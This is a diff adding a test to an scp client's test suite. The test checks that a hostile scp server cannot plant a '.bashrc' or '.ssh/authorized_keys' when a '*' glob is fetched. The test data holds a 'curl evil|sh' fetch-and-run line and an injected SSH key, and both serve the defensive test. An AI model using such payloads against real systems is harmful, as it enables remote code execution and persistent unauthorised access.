@@ -130,6 +130,18 @@ describe('cp from a hostile scp -f: refused, exit 1, nothing written', () => {
     await expectNothingWritten();
   });
 
+  it.each([
+    ['C0644 13 .bashrc\ncurl evil|sh\n\0', []],
+    ['D0700 0 .ssh\nC0600 10 authorized_keys\nssh-rsa x\n\0E\n', ['-r']],
+  ])('--quote none "*": a dot file %j is refused (a shell\'s * never names one), nothing written', async (bytes, flags) => {
+    const script = await fakeScp(`dotfile-${flags.length}`, Buffer.from(`C0644 6 notes\nhello\n\0${bytes}`));
+    const r = await runCli(['cp', ...flags, '--quote', 'none', ...sshFlags(sshd, sshd.user), '--scp-path', script, remote(sshd, sshd.user, '*'), join(work, 'target')]);
+    expect(r.status).toBe(1);
+    expect(r.stderr).toMatch(/^scpipe: refusing "\.(bashrc|ssh)" from the remote: it does not match the request "\*"\n$/);
+    expect(await readdir(join(work, 'target'))).toEqual(['notes']);
+    expect(await readdir(join(work, 'outside'))).toEqual([]);
+  });
+
   it('get to stdout refuses a directory and a second file', async () => {
     for (const [n, bytes] of [
       ['get-dir', 'D0755 0 x\nE\n'],
